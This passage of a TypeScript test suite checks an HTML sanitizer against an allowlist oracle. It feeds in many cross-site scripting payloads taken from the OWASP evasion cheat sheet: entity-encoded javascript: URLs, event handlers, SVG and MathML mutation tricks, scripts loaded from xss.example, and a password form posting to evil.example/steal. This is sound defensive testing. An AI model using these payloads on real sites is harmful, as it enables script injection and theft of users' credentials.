import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeHTMLAttribute } from 'entities';
import { Parser } from 'htmlparser2';
import { htmlToText } from '../feed/parse/text.js';
import { IFRAME_SANDBOX, sanitizedHtmlText, sanitizeHtml, sanitizeWithText } from './sanitize.js';
import { prng } from '../testing/random.js';

const BASE = 'https://blog.example.com/2024/03/post.html';

// ---------------------------------------------------------------------------------------------
// The oracle: parses sanitized output and checks every tag, attribute and URL against an allowlist
// written here independently of sanitize.ts, so a mistake in the sanitizer's tables shows up.

const GLOBAL_ATTRIBUTES = ['title', 'lang', 'dir'];
// prettier-ignore
const PLAIN_ELEMENTS = [
  'p', 'br', 'hr', 'div', 'span', 'section', 'article', 'aside', 'header', 'footer', 'address',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'b', 'i', 'em', 'strong', 'u', 's', 'strike', 'mark', 'small',
  'big', 'sub', 'sup', 'cite', 'abbr', 'dfn', 'kbd', 'samp', 'var', 'code', 'pre', 'bdi', 'bdo',
  'ruby', 'rt', 'rp', 'wbr', 'ul', 'dl', 'dt', 'dd', 'table', 'caption', 'thead', 'tbody', 'tfoot',
  'tr', 'figure', 'figcaption', 'summary', 'picture',
];
const SAFE_ELEMENTS: Record<string, readonly string[]> = {
  ...Object.fromEntries(PLAIN_ELEMENTS.map((tag) => [tag, []])),
  a: ['href', 'rel', 'target'],
  img: ['src', 'srcset', 'sizes', 'alt', 'width', 'height', 'loading'],
  source: ['src', 'srcset', 'sizes', 'type', 'media', 'width', 'height'],
  video: ['src', 'poster', 'controls', 'width', 'height', 'loop', 'muted', 'playsinline'],
  audio: ['src', 'controls', 'loop', 'muted'],
  iframe: ['src', 'width', 'height', 'allowfullscreen', 'sandbox', 'loading'],
  blockquote: ['cite'],
  q: ['cite'],
  del: ['cite', 'datetime'],
  ins: ['cite', 'datetime'],
  time: ['datetime'],
  ol: ['start', 'reversed', 'type'],
  li: ['value'],
  th: ['colspan', 'rowspan', 'headers', 'scope', 'abbr'],
  td: ['colspan', 'rowspan', 'headers'],
  col: ['span'],
  colgroup: ['span'],
  details: ['open'],
};
const EMBED_PREFIXES = [
  'https://www.youtube.com/embed/',
  'https://www.youtube-nocookie.com/embed/',
  'https://player.vimeo.com/video/',
];

/** Why `url` may not appear in `tag`'s `attribute`, or null when it may. */
function unsafeUrl(tag: string, attribute: string, url: string): string | null {
  let parsed: URL;
  try {
    parsed = new URL(url); // no base: every URL in the output must be absolute
  } catch {
    return `${tag}[${attribute}] is not an absolute URL: ${url}`;
  }
  if (url !== url.trim()) return `${tag}[${attribute}] has surrounding whitespace`;
  const scheme = parsed.protocol;
  if (tag === 'iframe') {
    return scheme === 'https:' && EMBED_PREFIXES.some((p) => parsed.href.startsWith(p))
      ? null
      : `iframe from ${url}`;
  }
  if (scheme === 'http:' || scheme === 'https:') return null;
  if (scheme === 'mailto:' && (tag === 'a' || attribute === 'cite')) return null;
  if (tag === 'img' && attribute === 'src' && /^data:image\/(png|gif|jpeg|webp)[;,]/i.test(url)) return null;
  return `${tag}[${attribute}] has scheme ${scheme}`;
}

/**
 * A srcset's candidates as a browser reads them: the HTML standard's "parse a srcset attribute", up
 * to its descriptors, which are returned as written.
 */
function browserSrcset(value: string): { url: string; descriptors: string[] }[] {
  const candidates: { url: string; descriptors: string[] }[] = [];
  const isSpace = (c: string | undefined): boolean => c !== undefined && ' \t\n\f\r'.includes(c);
  let i = 0;
  for (;;) {
    while (isSpace(value[i]) || value[i] === ',') i++;
    if (i >= value.length) return candidates;
    const start = i;
    while (i < value.length && !isSpace(value[i])) i++;
    let url = value.slice(start, i);
    const descriptors: string[] = [];
    if (url.endsWith(',')) {
      url = url.replace(/,+$/, '');
    } else {
      let current = '';
      let state: 'in descriptor' | 'in parens' | 'after descriptor' = 'in descriptor';
      while (isSpace(value[i])) i++;
      for (; ; i++) {
        const c = value[i];
        if (state === 'in descriptor') {
          if (isSpace(c)) {
            if (current !== '') descriptors.push(current);
            current = '';
            state = 'after descriptor';
          } else if (c === ',' || c === undefined) {
            if (current !== '') descriptors.push(current);
            i++;
            break;
          } else {
            current += c;
            if (c === '(') state = 'in parens';
          }
        } else if (state === 'in parens') {
          if (c === undefined) {
            descriptors.push(current);
            break;
          }
          current += c;
          if (c === ')') state = 'in descriptor';
        } else if (c === undefined) {
          break;
        } else if (!isSpace(c)) {
          state = 'in descriptor';
          i--;
        }
      }
    }
    candidates.push({ url, descriptors });
  }
}

/** Why a srcset may not appear, if it may not: each candidate a browser reads must be safe and plain. */
function unsafeSrcset(tag: string, value: string): string[] {
  const problems: string[] = [];
  for (const { url, descriptors } of browserSrcset(value)) {
    const [descriptor, ...rest] = descriptors;
    if (rest.length > 0 || (descriptor !== undefined && !/^(\d+w|\d+(\.\d+)?x)$/.test(descriptor))) {
      problems.push(`${tag}[srcset] has the candidate ${url} ${descriptors.join(' ')}: ${value}`);
    }
    const problem = unsafeUrl(tag, 'srcset', url);
    if (problem !== null) problems.push(problem);
  }
  return problems;
}

/** Everything in sanitized `html` that the allowlist does not allow; empty when the output is safe. */
function unsafeConstructs(html: string): string[] {
  const problems: string[] = [];
  const parser = new Parser(
    {
      onopentag(tag, attributes) {
        const allowed = SAFE_ELEMENTS[tag];
        if (allowed === undefined) {
          problems.push(`<${tag}>`);
          return;
        }
        for (const [name, value] of Object.entries(attributes)) {
          if (!allowed.includes(name) && !GLOBAL_ATTRIBUTES.includes(name)) problems.push(`${tag}[${name}]`);
          if (['href', 'src', 'cite', 'poster'].includes(name)) {
            const problem = unsafeUrl(tag, name, value);
            if (problem !== null) problems.push(problem);
          }
          if (name === 'srcset') problems.push(...unsafeSrcset(tag, value));
        }
        if (tag === 'iframe' && attributes.sandbox !== IFRAME_SANDBOX)
          problems.push('iframe without sandbox');
        if (tag === 'a' && attributes.target !== undefined && !/\bnoopener\b/.test(attributes.rel ?? '')) {
          problems.push('a[target] without rel=noopener');
        }
        if ((tag === 'video' || tag === 'audio') && 'autoplay' in attributes)
          problems.push(`${tag}[autoplay]`);
      },
      oncomment() {
        problems.push('comment');
      },
      oncdatastart() {
        problems.push('CDATA');
      },
      onprocessinginstruction(name) {
        problems.push(`declaration ${name}`);
      },
    },
    { decodeEntities: true },
  );
  parser.end(html);
  return problems;
}

function assertSafe(output: string, input: string): void {
  assert.deepEqual(unsafeConstructs(output), [], `input:  ${input}\noutput: ${output}`);
}

describe('the oracle', () => {
  const unsafe = [
    '<script>alert(1)</script>',
    '<img src="https://e.com/a.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="/relative">x</a>',
    '<img srcset="https://e.com/a.png 1x, javascript:alert(1) 2x">',
    '<img srcset="https://e.com/a.png, javascript:alert(1) 2x">',
    '<img srcset="https://e.com/a.png x, https://e.com/b.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="https://evil.example/" sandbox="allow-scripts allow-same-origin allow-popups"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
    '<a href="https://e.com/" target="_blank">x</a>',
    '<p style="position:fixed">x</p>',
    '<svg></svg>',
    '<!-- x -->',
  ];
  for (const html of unsafe) {
    it(`flags ${html}`, () => assert.notDeepEqual(unsafeConstructs(html), []));
  }
});

// ---------------------------------------------------------------------------------------------
// Hostile HTML, after the OWASP XSS filter evasion cheat sheet and known sanitizer bypasses.
// `want` pins the exact output where it documents a decision; the oracle checks every case.

const HOSTILE: { name: string; html: string; want?: string }[] = [
  // scripts
  { name: 'script', html: '<script>alert(1)</script>', want: '' },
  { name: 'script with src', html: '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>', want: '' },
  { name: 'script with slash', html: '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>', want: '' },
  { name: 'extra open bracket', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', want: '&lt;' },
  { name: 'unclosed script', html: '<SCRIPT SRC=http://xss.example/xss.js?< B >', want: '' },
  { name: 'title breakout', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>', want: '' },
  { name: 'quote breakout', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', want: '"&gt;' },
  {
    name: 'script in text',
    html: '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    want: '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  },
  // event handlers
  {
    name: 'img onerror',
    html: '<img src=x onerror=alert(1)>',
    want: '<img src="https://blog.example.com/2024/03/x" loading="lazy" />',
  },
  {
    name: 'a onmouseover',
    html: '<a onmouseover="alert(document.cookie)">xxs link</a>',
    want: '<a>xxs link</a>',
  },
  {
    name: 'img onerror encoded',
    html: '<img src=/ onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  },
  {
    name: 'body onload with junk',
    html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>text',
    want: 'text',
  },
  { name: 'svg onload', html: '<svg onload=alert(1)>', want: '' },
  { name: 'svg/onload', html: '<svg/onload=alert(1)>after', want: '' },
  {
    name: 'details ontoggle',
    html: '<details open ontoggle=alert(1)><summary>s</summary>d</details>',
    want: '<details open><summary>s</summary>d</details>',
  },
  {
    name: 'video onplay',
    html: '<video src=v.mp4 autoplay onplay=alert(1)></video>',
    want: '<video src="https://blog.example.com/2024/03/v.mp4" controls></video>',
  },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>m</marquee>', want: 'm' },
  { name: 'keygen onfocus', html: '<keygen autofocus onfocus=alert(1)>', want: '' },
  { name: 'isindex', html: '<isindex type=image src=1 onerror=alert(1)>', want: '' },
  { name: 'frameset onload', html: '<frameset onload=alert(1)>', want: '' },
  { name: 'mixed-case handler', html: '<p OnClick="alert(1)" oNmOuSeOvEr=alert(2)>x</p>', want: '<p>x</p>' },
  // javascript: URLs and their disguises
  { name: 'javascript img', html: '<IMG SRC="javascript:alert(\'XSS\');">', want: '' },
  { name: 'mixed case', html: "<IMG SRC=JaVaScRiPt:alert('XSS')>", want: '' },
  { name: 'entity quotes', html: '<IMG SRC=javascript:alert(&quot;XSS&quot;)>', want: '' },
  // backticks are not quotes in HTML: this is a harmless relative URL
  {
    name: 'grave accents',
    html: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    want: '<img src="https://blog.example.com/2024/03/%60javascript:alert(%22RSnake" loading="lazy" />',
  },
  {
    name: 'decimal entities',
    html: '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    want: '',
  },
  {
    name: 'padded decimal entities',
    html: '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
    want: '',
  },
  {
    name: 'hex entities',
    html: '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
    want: '',
  },
  { name: 'embedded tab', html: '<IMG SRC="jav\tascript:alert(\'XSS\');">', want: '' },
  { name: 'encoded tab', html: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">', want: '' },
  { name: 'encoded newline', html: '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">', want: '' },
  { name: 'encoded carriage return', html: '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">', want: '' },
  { name: 'leading spaces and meta chars', html: '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">', want: '' },
  { name: 'NUL in scheme', html: '<a href="java\u0000script:alert(1)">x</a>' },
  { name: 'padded mixed-case link', html: '<a href="  JaVaScRiPt:alert(1)">x</a>', want: '<a>x</a>' },
  { name: 'named entity colon', html: '<a href="javascript&colon;alert(1)">x</a>', want: '<a>x</a>' },
  { name: 'named entity tab', html: '<a href="jAvAsCrIpT&Tab;:alert(1)">x</a>', want: '<a>x</a>' },
  { name: 'hex entity j', html: '<a href="&#x6A;avascript:alert(1)">x</a>', want: '<a>x</a>' },
  { name: 'control char prefix', html: '<a href="\u0001javascript:alert(1)">x</a>', want: '<a>x</a>' },
  { name: 'vbscript', html: '<a href="vbscript:msgbox(1)">x</a>', want: '<a>x</a>' },
  {
    // ESC sequences that would recolour a terminal or set its title where an article is printed.
    name: 'control characters in text and attributes',
    html: '<p title="a\u001bb">c\u001b[31m &#27;]0;x&#7; d\u009be\u007f</p><pre>\tf\r\ng\fh</pre>',
    want: '<p title="a b">c [31m  ]0;x  d e </p><pre>\tf\r\ng\fh</pre>',
  },
  { name: 'livescript', html: '<a href="livescript:alert(1)">x</a>', want: '<a>x</a>' },
  { name: 'fake scheme', html: '<img src="x:alert(alt)" onerror="eval(src)" alt="0">', want: '' },
  {
    name: 'javascript in cite',
    html: '<blockquote cite="javascript:alert(1)">q</blockquote>',
    want: '<blockquote>q</blockquote>',
  },
  {
    name: 'javascript in poster',
    html: '<video src="https://v.example/a.mp4" poster="javascript:alert(1)"></video>',
    want: '<video src="https://v.example/a.mp4" controls></video>',
  },
  {
    name: 'javascript in srcset',
    html: '<img src="a.png" srcset="javascript:alert(1) 1x, b.png 2x">',
    want: '<img src="https://blog.example.com/2024/03/a.png" srcset="https://blog.example.com/2024/03/b.png 2x" loading="lazy" />',
  },
  { name: 'only javascript srcset', html: '<img srcset="javascript:alert(1)">', want: '' },
  { name: 'input image', html: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">', want: '' },
  { name: 'body background', html: '<BODY BACKGROUND="javascript:alert(\'XSS\')">', want: '' },
  {
    name: 'dynsrc and lowsrc',
    html: '<IMG DYNSRC="javascript:alert(1)" LOWSRC="javascript:alert(2)">',
    want: '',
  },
  { name: 'xlink:href', html: '<math><mi xlink:href="javascript:alert(1)">click</mi></math>', want: 'click' },
  { name: 'formaction', html: '<button formaction="javascript:alert(1)">Go</button>', want: 'Go' },
  // data: URLs
  {
    name: 'data html link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    want: '<a>x</a>',
  },
  { name: 'data image link', html: '<a href="data:image/png;base64,iVBORw0KGgo=">x</a>', want: '<a>x</a>' },
  {
    name: 'data svg image',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    want: '',
  },
  { name: 'data html image', html: '<img src="data:text/html,<script>alert(1)</script>">', want: '' },
  {
    name: 'data png image',
    html: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
    want: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" loading="lazy" />',
  },
  {
    name: 'data image in srcset',
    html: '<img src="a.png" srcset="data:image/png;base64,AAAA 2x">',
    want: '<img src="https://blog.example.com/2024/03/a.png" loading="lazy" />',
  },
  {
    name: 'data video',
    html: '<video src="data:video/mp4;base64,AAAA"></video>',
    want: '<video controls></video>',
  },
  { name: 'data iframe', html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', want: '' },
  // frames
  { name: 'iframe javascript', html: '<iframe src="javascript:alert(1)">fallback</iframe>', want: '' },
  { name: 'iframe evil host', html: '<iframe src=http://evil.example/>', want: '' },
  {
    name: 'iframe lookalike host',
    html: '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    want: '',
  },
  {
    name: 'iframe embed path elsewhere',
    html: '<iframe src="https://evil.example/?https://www.youtube.com/embed/x"></iframe>',
    want: '',
  },
  {
    name: 'iframe youtube non-embed',
    html: '<iframe src="https://www.youtube.com/watch?v=x"></iframe>',
    want: '',
  },
  {
    name: 'iframe with credentials',
    html: '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
    want: '',
  },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', want: '' },
  {
    name: 'youtube iframe kept, sandboxed',
    html: '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?autoplay=1&amp;start=10" frameborder="0" allow="autoplay; encrypted-media" sandbox="allow-top-navigation" onload="alert(1)" allowfullscreen></iframe>',
    want: `<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?start=10" sandbox="${IFRAME_SANDBOX}" allowfullscreen loading="lazy"></iframe>`,
  },
  {
    name: 'vimeo iframe upgraded to https',
    html: '<iframe src="//player.vimeo.com/video/76979871"></iframe>',
    want: `<iframe src="https://player.vimeo.com/video/76979871" sandbox="${IFRAME_SANDBOX}" allowfullscreen loading="lazy"></iframe>`,
  },
  {
    name: 'nested iframe breakout',
    html: '<iframe src="https://www.youtube.com/embed/a"><iframe src="https://www.youtube.com/embed/b"></iframe><img src=x onerror=alert(1)></iframe>',
  },
  { name: 'frame', html: '<frameset><frame src="javascript:alert(1)"></frameset>', want: '' },
  // styles
  { name: 'style element', html: '<style>body{display:none}</style><p>x</p>', want: '<p>x</p>' },
  { name: 'style import', html: "<STYLE>@import'http://xss.example/xss.css';</STYLE>", want: '' },
  {
    name: 'overlay style',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Click me</div>',
    want: '<div>Click me</div>',
  },
  {
    name: 'css expression',
    html: '<div style="width: expression(alert(\'XSS\'));">x</div>',
    want: '<div>x</div>',
  },
  {
    name: 'css url javascript',
    html: '<div style="background-image: url(javascript:alert(1))">x</div>',
    want: '<div>x</div>',
  },
  {
    name: 'css escaped expression',
    html: '<img src="a.png" STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
    want: '<img src="https://blog.example.com/2024/03/a.png" loading="lazy" />',
  },
  { name: 'link stylesheet', html: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">', want: '' },
  // page-level elements
  {
    name: 'form',
    html: '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>',
    want: 'Log in',
  },
  {
    name: 'base',
    html: '<base href="https://evil.example/"><a href="x">x</a>',
    want: '<a href="https://blog.example.com/2024/03/x" rel="noopener noreferrer" target="_blank">x</a>',
  },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', want: '' },
  {
    name: 'meta refresh data',
    html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    want: '',
  },
  {
    name: 'object',
    html: '<object data="javascript:alert(1)" type="text/html">fallback</object>',
    want: 'fallback',
  },
  {
    name: 'object classid',
    html: "<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert('XSS')></OBJECT>",
    want: '',
  },
  { name: 'embed', html: '<embed src="javascript:alert(1)">', want: '' },
  {
    name: 'embed flash',
    html: '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>',
    want: '',
  },
  { name: 'applet', html: '<applet code="Evil.class">x</applet>', want: 'x' },
  { name: 'template', html: '<template><script>alert(1)</script><p>hidden</p></template>', want: '' },
  { name: 'textarea', html: '<textarea><script>alert(1)</script></textarea>', want: '' },
  { name: 'xmp', html: '<xmp><script>alert(1)</script></xmp>', want: '' },
  { name: 'title', html: '<title><script>alert(1)</script></title>', want: '' },
  { name: 'noembed', html: '<noembed><img src=x onerror=alert(1)></noembed>', want: '' },
  // namespaces
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>', want: '' },
  { name: 'svg animate', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', want: '' },
  {
    name: 'svg a xlink',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    want: '',
  },
  {
    name: 'svg foreignObject',
    html: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    want: '',
  },
  { name: 'math href', html: '<math href="javascript:alert(1)">CLICKME</math>', want: 'CLICKME' },
  {
    name: 'math mXSS',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    want: '<table></table>',
  },
  {
    name: 'math maction',
    html: '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    want: 'x',
  },
  // noscript and comments
  {
    name: 'noscript title breakout',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    want: '<p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;"></p>',
  },
  {
    name: 'noscript style breakout',
    html: '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
    want: '',
  },
  {
    name: 'IE conditional comment',
    html: "<!--[if gte IE 4]><script>alert('XSS');</script><![endif]-->ok",
    want: 'ok',
  },
  {
    name: 'downlevel-revealed comment',
    html: '<![if !IE]><script>alert(1)</script><![endif]>ok',
    want: 'ok',
  },
  { name: 'comment breakout', html: '<!-- --!><script>alert(1)</script> -->ok' },
  { name: 'CDATA', html: '<![CDATA[<script>alert(1)</script>]]>ok', want: 'ok' },
  { name: 'processing instruction', html: '<?xml-stylesheet href="javascript:alert(1)"?>ok', want: 'ok' },
  { name: 'doctype', html: '<!DOCTYPE html><p>ok</p>', want: '<p>ok</p>' },
  // clobbering and tab-nabbing
  {
    name: 'ids, classes and names',
    html: '<div id="csrfToken" class="admin-panel" name="x">x</div>',
    want: '<div>x</div>',
  },
  {
    name: 'img name clobbering',
    html: '<img name="getElementById" src="a.png">',
    want: '<img src="https://blog.example.com/2024/03/a.png" loading="lazy" />',
  },
  {
    name: 'reverse tab-nabbing',
    html: '<a href="https://e.com/" target="_top" rel="opener">x</a>',
    want: '<a href="https://e.com/" rel="noopener noreferrer" target="_blank">x</a>',
  },
  {
    name: 'link to self with handler',
    html: '<a href="#" onclick="alert(1)">x</a>',
    want: '<a href="https://blog.example.com/2024/03/post.html#" rel="noopener noreferrer" target="_blank">x</a>',
  },
  // malformed markup
  {
    name: 'unquoted attribute breakout',
    html: '<img src=a.png alt=x onerror=alert(1)//>',
    want: '<img src="https://blog.example.com/2024/03/a.png" alt="x" loading="lazy" />',
  },
  { name: 'attribute name with quote', html: '<p title"=x onclick=alert(1)>x</p>', want: '<p>x</p>' },
  { name: 'half-open tag', html: '<img src="a.png" onerror="alert(1)"', want: '' },
  {
    name: 'nested quotes in title',
    html: '<a href="https://e.com/" title="a&quot;><script>alert(1)</script>">x</a>',
  },
  { name: 'unterminated comment', html: 'ok<!-- <script>alert(1)</script>', want: 'ok' },
];

describe('sanitizeHtml on hostile HTML', () => {
  for (const { name, html, want } of HOSTILE) {
    it(name, () => {
      const output = sanitizeHtml(html, BASE);
      assertSafe(output, html);
      if (want !== undefined) assert.equal(output, want);
    });
  }
});

// ---------------------------------------------------------------------------------------------

describe('sanitizeHtml keeps ordinary content', () => {
  const cases: { name: string; html: string; want: string; base?: string | null }[] = [
    {
      name: 'text formatting',
      html: '<p>A <b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <s>s</s> <del>d</del> <ins>i</ins> <mark>m</mark> <small>s</small> <code>c</code> <kbd>k</kbd> <q>q</q> <cite>c</cite> H<sub>2</sub>O x<sup>2</sup></p>',
      want: '<p>A <b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <s>s</s> <del>d</del> <ins>i</ins> <mark>m</mark> <small>s</small> <code>c</code> <kbd>k</kbd> <q>q</q> <cite>c</cite> H<sub>2</sub>O x<sup>2</sup></p>',
    },
    {
      name: 'headings',
      html: '<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>',
      want: '<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>',
    },
    {
      name: 'lists',
      html: '<ul><li>a</li></ul><ol start="3" reversed><li value="5">b</li></ol><dl><dt>t</dt><dd>d</dd></dl>',
      want: '<ul><li>a</li></ul><ol start="3" reversed><li value="5">b</li></ol><dl><dt>t</dt><dd>d</dd></dl>',
    },
    {
      name: 'tables',
      html: '<table border="1" class="t"><caption>c</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2" rowspan="1" bgcolor="red">d</td></tr></tbody></table>',
      want: '<table><caption>c</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">d</td></tr></tbody></table>',
    },
    {
      name: 'pre and code',
      html: '<pre><code class="language-ts">const a = 1 &lt; 2;\n  indented</code></pre>',
      want: '<pre><code>const a = 1 &lt; 2;\n  indented</code></pre>',
    },
    {
      name: 'blockquote',
      html: '<blockquote cite="/source"><p>quoted</p></blockquote>',
      want: '<blockquote cite="https://blog.example.com/source"><p>quoted</p></blockquote>',
    },
    {
      name: 'abbr, details, hr, br',
      html: '<abbr title="HyperText Markup Language">HTML</abbr><br><hr><details><summary>More</summary>Body</details>',
      want: '<abbr title="HyperText Markup Language">HTML</abbr><br /><hr /><details><summary>More</summary>Body</details>',
    },
    {
      name: 'figure',
      html: '<figure><img src="/img/a.jpg" alt="A" width="640" height="480"><figcaption>Caption</figcaption></figure>',
      want: '<figure><img src="https://blog.example.com/img/a.jpg" alt="A" width="640" height="480" loading="lazy" /><figcaption>Caption</figcaption></figure>',
    },
    {
      name: 'picture',
      html: '<picture><source srcset="a.avif 1x, a@2x.avif 2x" type="image/avif"><source media="(min-width: 800px)" srcset="wide.jpg"><img src="a.jpg" alt=""></picture>',
      want: '<picture><source srcset="https://blog.example.com/2024/03/a.avif 1x, https://blog.example.com/2024/03/a@2x.avif 2x" type="image/avif" /><source media="(min-width: 800px)" srcset="https://blog.example.com/2024/03/wide.jpg" /><img src="https://blog.example.com/2024/03/a.jpg" alt="" loading="lazy" /></picture>',
    },
    {
      name: 'audio',
      html: '<audio src="ep1.mp3" autoplay preload="auto"></audio>',
      want: '<audio src="https://blog.example.com/2024/03/ep1.mp3" controls></audio>',
    },
    {
      name: 'video with sources',
      html: '<video poster="p.jpg"><source src="v.webm" type="video/webm"></video>',
      want: '<video poster="https://blog.example.com/2024/03/p.jpg" controls><source src="https://blog.example.com/2024/03/v.webm" type="video/webm" /></video>',
    },
    {
      name: 'language and direction',
      html: '<p lang="zh" dir="rtl">中文</p>',
      want: '<p lang="zh" dir="rtl">中文</p>',
    },
    {
      name: 'entities stay escaped',
      html: '<p>5 &lt; 6 &amp;&amp; "quotes" &copy; &nbsp;</p>',
      want: '<p>5 &lt; 6 &amp;&amp; "quotes" © \u00a0</p>',
    },
    {
      name: 'mailto links',
      html: '<a href="mailto:editor@example.com">mail</a>',
      want: '<a href="mailto:editor@example.com" rel="noopener noreferrer" target="_blank">mail</a>',
    },
    { name: 'tel links dropped', html: '<a href="tel:+15555555555">call</a>', want: '<a>call</a>' },
    {
      name: 'wrapping document unwrapped',
      html: '<html><head><title>T</title><meta charset="utf-8"></head><body><p>x</p></body></html>',
      want: '<p>x</p>',
    },
    {
      name: 'no base: relative URLs dropped',
      html: '<a href="/x">x</a><img src="y.png"><img src="https://e.com/z.png">',
      want: '<a>x</a><img src="https://e.com/z.png" loading="lazy" />',
      base: null,
    },
    { name: 'invalid base treated as none', html: '<a href="/x">x</a>', want: '<a>x</a>', base: 'not a url' },
  ];
  for (const { name, html, want, base = BASE } of cases) {
    it(name, () => {
      const output = sanitizeHtml(html, base);
      assert.equal(output, want);
      assertSafe(output, html);
    });
  }
});

describe('sanitizeHtml cleans URLs', () => {
  const cases: { name: string; html: string; want: string }[] = [
    {
      name: 'href',
      html: '<a href="/post?id=1&amp;utm_source=rss&amp;utm_medium=feed#top">x</a>',
      want: '<a href="https://blog.example.com/post?id=1#top" rel="noopener noreferrer" target="_blank">x</a>',
    },
    {
      name: 'src',
      html: '<img src="https://cdn.example.com/a.png?fbclid=1&amp;w=600">',
      want: '<img src="https://cdn.example.com/a.png?w=600" loading="lazy" />',
    },
    {
      name: 'srcset',
      html: '<img src="a.png" srcset="a.png?utm_source=x 1x, b.png?gclid=2 2x">',
      want: '<img src="https://blog.example.com/2024/03/a.png" srcset="https://blog.example.com/2024/03/a.png 1x, https://blog.example.com/2024/03/b.png 2x" loading="lazy" />',
    },
    {
      name: 'srcset with width descriptors',
      html: '<img src="a.png" srcset="s.png 320w,m.png 640w" sizes="(max-width: 600px) 320px, 640px">',
      want: '<img src="https://blog.example.com/2024/03/a.png" srcset="https://blog.example.com/2024/03/s.png 320w, https://blog.example.com/2024/03/m.png 640w" sizes="(max-width: 600px) 320px, 640px" loading="lazy" />',
    },
    {
      name: 'poster',
      html: '<video poster="p.jpg?mc_cid=1"></video>',
      want: '<video poster="https://blog.example.com/2024/03/p.jpg" controls></video>',
    },
  ];
  for (const { name, html, want } of cases) {
    it(name, () => assert.equal(sanitizeHtml(html, BASE), want));
  }

  // A parameter removed can leave a URL ending in ',', where a browser would end the candidate and
  // read its descriptor as a URL of its own.
  const srcsets: { html: string; want: { url: string; descriptors: string[] }[] }[] = [
    {
      html: '<img srcset="https://cdn.example/a.jpg?v=1,&utm_source=rss 2x, https://cdn.example/b.jpg 3x">',
      want: [
        { url: 'https://cdn.example/a.jpg?v=1%2C', descriptors: ['2x'] },
        { url: 'https://cdn.example/b.jpg', descriptors: ['3x'] },
      ],
    },
    {
      html: '<img srcset="https://cdn.example/a.jpg?v=1,,&gclid=2,, https://cdn.example/b.jpg 640w">',
      want: [
